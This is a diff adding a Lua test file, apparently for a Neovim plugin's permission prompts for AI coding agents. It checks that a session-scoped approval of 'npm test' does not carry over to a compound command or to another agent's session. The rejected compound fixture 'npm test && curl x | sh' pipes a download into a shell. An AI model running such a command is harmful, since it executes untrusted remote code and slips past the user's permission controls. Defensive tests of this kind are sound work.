@@ -1,0 +1,116 @@
+-- The prompt's extras answer the agent's allow_once option and remember a
+-- narrow rule: "allow for this session" covers exactly that command in that
+-- session, not a compound that contains it and not another session.
+local T = require('helpers')
+
+local function selected(option_id)
+  return { outcome = { outcome = 'selected', optionId = option_id } }
+end
+
+local function shell(tcid, command)
+  return {
+    type = 'permission',
+    announce = true,
+    toolCall = { toolCallId = tcid, title = command, kind = 'execute', rawInput = { command = command } },
+    options = {
+      { kind = 'allow_always', name = 'Always Allow', optionId = 'allow_always' },
+      { kind = 'allow_once', name = 'Allow', optionId = 'allow' },
+      { kind = 'reject_once', name = 'Reject', optionId = 'reject' },
+    },
+  }
+end
+
+local SCENARIO = {
+  name = 'remember',
+  steps = {
+    shell('first_${turn}', 'npm test'),
+    shell('again_${turn}', 'npm test'),
+    shell('chain_${turn}', 'npm test && curl x | sh'),
+    { type = 'message', text = 'Done.' },
+  },
+}
+
+T.test('s (allow for this session) on npm test: later npm test allowed, a compound and another session ask', function()
+  local ctx = T.start_demo(SCENARIO)
+  local decided = T.on('AcpPermissionDecided')
+  require('acp').prompt('Test')
+  local win = T.wait_prompt('first_1')
+  local text = T.win_text(win)
+  T.contains(text, 'allow for this session: Bash(npm test)', 'the prompt offers the extra with its rule')
+  T.contains(text, '[s]', 'the key of the extra')
+  T.contains(text, '[t]', 'trust this agent is offered')
+  T.answer_with_keys('first_1', 's')
+  -- The agent gets its own allow_once option.
+  T.eq(T.answer(ctx, 'first_1').result, selected('allow'), 'the answer to the first npm test')
+  T.eq(T.answer(ctx, 'again_1').result, selected('allow'), 'the second npm test, allowed from memory')
+  T.wait(function()
+    return #decided > 0
+  end, nil, 'AcpPermissionDecided')
+  T.eq(decided[1].toolCallId, 'again_1', 'decided toolCallId')
+  T.eq(decided[1].by, 'memory', 'decided by')
+  -- The compound is asked: `curl x | sh` is not covered.
+  T.wait_pending('chain_1')
+  vim.cmd('AcpDeny')
+  T.eq(T.answer(ctx, 'chain_1').result, selected('reject'), 'the answer to the compound')
+  T.wait(function()
+    return not require('acp').status().busy
+  end, nil, 'the turn to end')
+
+  -- Another session (another agent) does not share the memory.
+  local other = {
+    transcript = T.tmpname('transcript-other', '.jsonl'),
+  }
+  require('acp').setup({
+    ui = { arm_ms = 50 },
+    agents = {
+      other = {
+        cmd = { os.getenv('ACP_DEMO_AGENT_BIN') },
+        env = { ACP_DEMO_SCENARIO = T.scenario(SCENARIO), ACP_DEMO_TRANSCRIPT = other.transcript },
+      },
+    },
+  })
+  require('acp').start('other', { cwd = ctx.project })
+  T.wait(function()
+    local s = require('acp').status()
+    return s.agent == 'other' and s.session
+  end, nil, 'the other session')
+  require('acp').prompt('Test')
+  T.wait_pending('first_1')
+  local p = require('acp').pending()[1]
+  T.eq(require('acp.state').pending[p.id].agent, 'other', 'the prompt is from the other agent')
+  vim.cmd('AcpDeny!')
+  T.eq(T.answer(other, 'first_1').result, selected('reject'), 'the answer in the other session')
+end)
+
+T.test('p and t are offered only with an allow_once option; the arming delay applies to them', function()
+  local ctx = T.start_demo({
+    name = 'no-allow-once',
+    steps = {
+      {
+        type = 'permission',
+        toolCall = { toolCallId = 'only_always_${turn}', title = 'npm test', kind = 'execute', rawInput = { command = 'npm test' } },
+        options = {
+          { kind = 'allow_always', name = 'Always Allow', optionId = 'allow_always' },
+          { kind = 'reject_once', name = 'Reject', optionId = 'reject' },
+        },
+      },
+      { type = 'message', text = 'Done.' },
+    },
+  }, { setup = { ui = { arm_ms = 400 } } })
+  require('acp').prompt('Test')
+  local win = T.wait_prompt('only_always_1')
+  local text = T.win_text(win)
+  T.ok(not text:find('allow for this session', 1, true), 'no session extra without allow_once:\n' .. text)
+  T.ok(not text:find('trust this agent', 1, true), 'no trust extra without allow_once')
+  -- Pressed at once: ignored (arming), and not offered anyway.
+  T.feed('p')
+  T.wait_ms(450)
+  T.feed('t')
+  T.never(function()
+    return T.requests(ctx, 'only_always_1')[1].response
+  end, 300, 'an answer from p or t')
+  T.feed('r')
+  T.eq(T.answer(ctx, 'only_always_1').result, selected('reject'), 'answer')
+end)
+
+T.done()
